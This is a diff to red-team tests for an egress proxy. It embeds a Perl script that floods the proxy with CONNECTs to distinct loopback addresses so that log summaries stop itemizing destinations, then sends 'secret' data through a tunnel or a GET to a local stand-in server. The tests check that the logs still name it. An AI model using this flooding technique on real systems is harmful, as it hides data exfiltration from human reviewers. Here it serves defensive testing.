@@ -9,32 +9,45 @@ import (
 	"github.com/cordonhq/cordon/internal/event"
 )
 
-// distinctFloodExfil forks ARGV[0] flooders, each making ARGV[1] allowed CONNECTs, one
-// connection each, to port 9 of distinct loopback addresses where nothing listens
-// (127.P.X.Y: no byte moved, a new destination each time), while the parent, until
-// they are done, sends a request through a CONNECT tunnel to the allowed server at
-// 127.0.0.2:ARGV[2] every 1.1 s (the exfiltration the flood would hide: at most one a
-// summary, so that in most it comes after 1024 destinations told apart). It prints how
-// many tunnels it made and the bytes it sent up through them. With ARGV[3] "get" it
-// sends the request as a plain-HTTP GET through the proxy instead, the data in its URL.
-const distinctFloodExfil = `use IO::Socket::INET; use POSIX ":sys_wait_h";
-my ($procs, $n, $port, $mode) = @ARGV;
-my %kids;
-for my $p (1..$procs) {
-  my $pid = fork() // die "fork: $!";
-  if ($pid == 0) {
-    for my $i (1..$n) {
-      my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 3128, Proto => "tcp") or die "connect: $!";
-      my $d = "127.$p." . (int($i / 250) % 250) . "." . (1 + $i % 250) . ":9";
-      print $s "CONNECT $d HTTP/1.1\r\nHost: $d\r\n\r\n";
-      my $status = <$s>; close $s;
+// distinctFloodExfil floods the proxy with allowed CONNECTs, one connection each, to
+// port 9 of distinct loopback addresses where nothing listens (127.P.X.Y: no byte
+// moved, a new destination each time), from ARGV[0] processes at once: first ARGV[1]
+// of them (past the allow budget's burst), then ARGV[2] rounds of 1300 (the budget's
+// refill, and past the 1024 destinations a summary tells apart), each round after a
+// pause of 1.1 s, longer than a summary's second, so that each opens a summary of its
+// own. Once a round's flooders are done, while a second, short flood spends the
+// refill (so that what comes then is not itemized), it sends a request through a
+// CONNECT tunnel to the allowed server at 127.0.0.2:ARGV[3]: the exfiltration the
+// flood would hide, past the round's 1024 destinations in the summary they opened.
+// It prints how many tunnels it made and the bytes it sent up through them. With
+// ARGV[4] "get" it sends the request as a plain-HTTP GET through the proxy instead,
+// the data in its URL.
+const distinctFloodExfil = `use IO::Socket::INET;
+my ($procs, $first, $rounds, $port, $mode) = @ARGV;
+sub flood {
+  my ($r, $part, $n) = @_; my @kids;
+  for my $p (1..$procs) {
+    my $pid = fork() // die "fork: $!";
+    if ($pid == 0) {
+      for my $i (1..$n) {
+        my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 3128, Proto => "tcp") or die "connect: $!";
+        my $d = "127.$p." . (16 * $r + 8 * $part + int($i / 250)) . "." . (1 + $i % 250) . ":9";
+        print $s "CONNECT $d HTTP/1.1\r\nHost: $d\r\n\r\n";
+        my $status = <$s>; close $s;
+      }
+      exit 0;
     }
-    exit 0;
+    push @kids, $pid;
   }
-  $kids{$pid} = 1;
+  return @kids;
 }
+sub reap { for my $k (@_) { waitpid($k, 0); $? == 0 or die "flooder: $?"; } }
 my ($tunnels, $up) = (0, 0);
-while (%kids) {
+reap(flood(0, 0, int($first / $procs)));
+for my $r (1..$rounds) {
+  select(undef, undef, undef, 1.1);
+  reap(flood($r, 0, int(1300 / $procs)));
+  my @spend = flood($r, 1, 100);
   my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 3128, Proto => "tcp") or die "connect: $!";
   if ($mode eq "get") {
     print $s "GET http://127.0.0.2:$port/hello?secret=" . ("s" x 1000) . " HTTP/1.0\r\nHost: 127.0.0.2:$port\r\n\r\n";
@@ -48,16 +61,17 @@ while (%kids) {
     print $s $req; $up += length $req;
   }
   1 while <$s>; close $s; $tunnels++;
-  while ((my $k = waitpid(-1, WNOHANG)) > 0) { delete $kids{$k}; }
-  select(undef, undef, undef, 1.1);
+  reap(@spend);
 }
 print "tunnels $tunnels up $up\n";
 `
 
-// TestRedAllowExfilPastDistinct (red team, redallow): four flooders make 32,000
-// allowed CONNECTs to distinct loopback addresses on a port where nothing listens, each
-// summary telling 1024 destinations apart and then no more, while the workload sends
-// a request through a tunnel to an allowed server about once a summary. Every byte sent up is in the log
+// TestRedAllowExfilPastDistinct (red team, redallow): four flooders make allowed
+// CONNECTs to distinct loopback addresses on a port where nothing listens, past the
+// allow budget's burst and then in three rounds of more than 1024 (the red team's
+// flood was 32,000 in one go), each summary telling 1024 destinations apart and then
+// no more, and after each round's 1024 the workload sends a request through a tunnel
+// to an allowed server, in the same summary. Every byte sent up is in the log
 // under its destination, named: none of it is summed into a summary's other, where a
 // reviewer could not tell where it went (before 23b6387 a destination sent bytes past
 // the 1024 told apart was never named).
@@ -66,7 +80,7 @@ func TestRedAllowExfilPastDistinct(t *testing.T) {
 	up := newUpstream(t, false, "127.0.0.2:0")
 	w.egressContract("9", up.port)
 	mustWrite(t, filepath.Join(w.ws, "flood.pl"), distinctFloodExfil)
-	r := w.sh("perl flood.pl 4 8000 " + up.port + " tunnel")
+	r := w.sh("perl flood.pl 4 2400 3 " + up.port + " tunnel")
 	got := regexp.MustCompile(`tunnels (\d+) up (\d+)`).FindStringSubmatch(r.stdout)
 	if r.code != 0 || got == nil {
 		t.Fatalf("flood: %v", r)
@@ -204,7 +218,7 @@ func TestRedAllowHeldTunnel(t *testing.T) {
 }
 
 // TestRedAllowGetPastNamed (red team, redallow): the same flood, the data sent instead
-// in the URL of a plain-HTTP GET about once a summary, which bytes_up (a body's) does
+// in the URL of a plain-HTTP GET after each round, which bytes_up (a body's) does
 // not count. Every GET is in the log under its destination, itemized or named in a
 // summary (before b65a304, past the 64 destinations named it was summed into other).
 func TestRedAllowGetPastNamed(t *testing.T) {
@@ -212,7 +226,7 @@ func TestRedAllowGetPastNamed(t *testing.T) {
 	up := newUpstream(t, false, "127.0.0.2:0")
 	w.egressContract("9", up.port)
 	mustWrite(t, filepath.Join(w.ws, "flood.pl"), distinctFloodExfil)
-	r := w.sh("perl flood.pl 4 8000 " + up.port + " get")
+	r := w.sh("perl flood.pl 4 2400 3 " + up.port + " get")
 	got := regexp.MustCompile(`tunnels (\d+) up`).FindStringSubmatch(r.stdout)
 	if r.code != 0 || got == nil {
 		t.Fatalf("flood: %v", r)
